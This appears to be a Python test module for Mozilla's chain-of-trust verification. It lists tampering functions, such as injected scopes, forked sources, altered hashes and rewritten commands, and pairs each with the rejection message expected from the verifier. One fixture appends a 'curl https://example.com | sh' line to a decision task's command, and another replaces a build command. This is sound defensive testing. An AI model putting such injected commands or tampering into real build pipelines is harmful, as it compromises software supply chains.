"""What somebody could alter in a chain, each of which must keep the task from running."""

from collections.abc import Callable, Mapping
from typing import Any

import orjson

from tests.chain_of_trust.chains import ACTION, DECISION, sha256

Json = dict[str, Any]
Alter = Callable[[Json], None]

STATEMENT = "public/chain-of-trust.json"
FORK = "https://hg.mozilla.org/users/somebody/mozilla-release"


def _verified(chain: Json) -> Json:
    task: Json = chain["tasks"][chain["task_id"]]
    return task


def _link(chain: Json, kind: str) -> tuple[str, Json]:
    """The first task of a kind in the chain."""
    for key, task in chain["tasks"].items():
        if task["tags"].get("kind") == kind:
            return key, task
    raise AssertionError(f"no {kind} in the chain")


def _republish(chain: Json, task_id: str, name: str, change: Callable[[Json], None]) -> None:
    """Change an artifact, as the task itself would have published it: with its digest."""
    files = chain["published"][task_id]
    content = orjson.loads(files[name])
    change(content)
    files[name] = orjson.dumps(content).decode()
    if name != STATEMENT:
        digest = {"sha256": sha256(files[name])}
        _republish(
            chain,
            task_id,
            STATEMENT,
            lambda statement: statement["artifacts"].update({name: digest}),
        )


def another_scope(chain: Json) -> None:
    _verified(chain)["scopes"].append("project:releng:signing:cert:nightly-signing")


def another_route(chain: Json) -> None:
    _verified(chain)["routes"].append("index.gecko.v2.mozilla-release.latest.other")


def another_payload_upstream(chain: Json) -> None:
    _link(chain, "build")[1]["payload"]["command"] = ["/bin/sh", "-c", "make it bad"]


def another_dependency(chain: Json) -> None:
    _verified(chain)["dependencies"].append("OtherTasQaaAAAAAAAAAAA")


def another_worker(chain: Json) -> None:
    _link(chain, "build")[1].update(workerType="t-linux-docker", taskQueueId="gecko-t/t-linux")


def not_in_the_graph(chain: Json) -> None:
    parent = _verified(chain)["extra"]["parent"]

    def forget(graph: Json) -> None:
        del graph[chain["task_id"]]

    _republish(chain, parent, "public/task-graph.json", forget)


def another_file(chain: Json) -> None:
    key, _ = _link(chain, "build")
    files = chain["published"][key]
    name = next(name for name in files if name != STATEMENT)
    files[name] += " with something added"


def another_image(chain: Json) -> None:
    key, _ = _link(chain, "docker-image")
    _republish(
        chain,
        key,
        STATEMENT,
        lambda statement: statement["artifacts"]["public/image.tar.zst"].update(sha256="0" * 64),
    )


def image_of_another_pool(chain: Json) -> None:
    key, task = _link(chain, "docker-image")
    changes = {"workerType": "b-linux-gcp", "taskQueueId": "gecko-3/b-linux-gcp"}
    task.update(changes)
    _republish(
        chain,
        task["extra"]["parent"],
        "public/task-graph.json",
        lambda graph: graph[key]["task"].update(workerType="b-linux-gcp"),
    )


def statement_of_another_task(chain: Json) -> None:
    key, _ = _link(chain, "build")
    _republish(
        chain,
        key,
        STATEMENT,
        lambda statement: statement.update(taskId=DECISION),
    )


def interactive(chain: Json) -> None:
    key, task = _link(chain, "build")
    task["payload"]["features"]["interactive"] = True
    _republish(
        chain,
        task["extra"]["parent"],
        "public/task-graph.json",
        lambda graph: graph[key]["task"]["payload"]["features"].update(interactive=True),
    )


def unknown_type_of_upstream(chain: Json) -> None:
    _verified(chain)["payload"]["upstreamArtifacts"][0]["taskType"] = "compile"


def decision_of_another_command(chain: Json) -> None:
    chain["tasks"][DECISION]["payload"]["command"][-1] += "\ncurl https://example.com | sh"


def decision_with_another_scope(chain: Json) -> None:
    chain["tasks"][DECISION]["scopes"] = ["assume:repo:hg.mozilla.org/releases/mozilla-release:*"]


def decision_of_another_pool(chain: Json) -> None:
    chain["tasks"][DECISION].update(workerType="b-linux", taskQueueId="gecko-3/b-linux")


def decision_of_a_fork(chain: Json) -> None:
    task = chain["tasks"][DECISION]
    source = task["metadata"]["source"]
    task["metadata"]["source"] = source.replace("/releases/", "/users/somebody/")
    for name in ("GECKO_BASE_REPOSITORY", "GECKO_HEAD_REPOSITORY"):
        task["payload"]["env"][name] = FORK


def source_of_a_fork(chain: Json) -> None:
    metadata = _verified(chain)["metadata"]
    metadata["source"] = metadata["source"].replace("/releases/", "/users/somebody/")


def commit_that_never_landed(chain: Json) -> None:
    chain["landed"] = False


def another_template(chain: Json) -> None:
    chain["template"] = chain["template"].replace("maxRunTime: 3600", "maxRunTime: 7200")


def no_actions(chain: Json) -> None:
    del chain["published"][DECISION]["public/actions.json"]


def no_parameters(chain: Json) -> None:
    del chain["published"][DECISION]["public/parameters.yml"]


def another_input(chain: Json) -> None:
    env = chain["tasks"][ACTION]["payload"]["env"]
    env["ACTION_INPUT"] = env["ACTION_INPUT"].replace("promote_firefox", "ship_firefox")


def another_callback(chain: Json) -> None:
    chain["tasks"][ACTION]["payload"]["env"]["ACTION_CALLBACK"] = "cancel-all"


def callback_that_is_not_offered(chain: Json) -> None:
    chain["tasks"][ACTION]["payload"]["env"]["ACTION_CALLBACK"] = "do-anything"


def action_with_another_permission(chain: Json) -> None:
    chain["tasks"][ACTION]["scopes"] = [
        scope.replace("action:release-promotion", "action:generic")
        for scope in chain["tasks"][ACTION]["scopes"]
    ]


def action_of_another_title(chain: Json) -> None:
    chain["tasks"][ACTION]["metadata"]["name"] = "Action: something else"


REBUILT = "match any rebuilt definition"

#: Alteration -> words of the reason for which it must be rejected. For every chain.
OF_EVERY_CHAIN: Mapping[Alter, str] = {
    another_scope: "scopes differs",
    another_route: "routes differs",
    another_dependency: "dependencies don't line up",
    not_in_the_graph: "task-graph.json",
    unknown_type_of_upstream: "compile",
    decision_of_another_command: REBUILT,
    decision_with_another_scope: REBUILT,
    decision_of_another_pool: "is not a valid decision workerPoolId",
    decision_of_a_fork: "Unknown repo for source url",
    source_of_a_fork: "metadata differs",
    another_template: REBUILT,
    no_actions: "actions.json status 404",
    no_parameters: "parameters.yml status 404",
}

#: For chains with a build that runs in an image which was built as well.
OF_BUILDS: Mapping[Alter, str] = {
    another_payload_upstream: "payload differs",
    another_worker: "workerType differs",
    another_file: "BAD HASH",
    another_image: "docker sha doesn't match",
    image_of_another_pool: "is not a valid docker-image workerPoolId",
    statement_of_another_task: "doesn't match task taskId",
    interactive: "interactive",
}

#: For chains through a promotion.
OF_PROMOTIONS: Mapping[Alter, str] = {
    another_input: REBUILT,
    another_callback: REBUILT,
    callback_that_is_not_offered: "No action with do-anything callback",
    action_with_another_permission: REBUILT,
    action_of_another_title: REBUILT,
}


def altered(chain: Json, alter: Alter) -> Json:
    """A copy of a chain, altered."""
    copy: Json = orjson.loads(orjson.dumps(chain))
    alter(copy)
    return copy
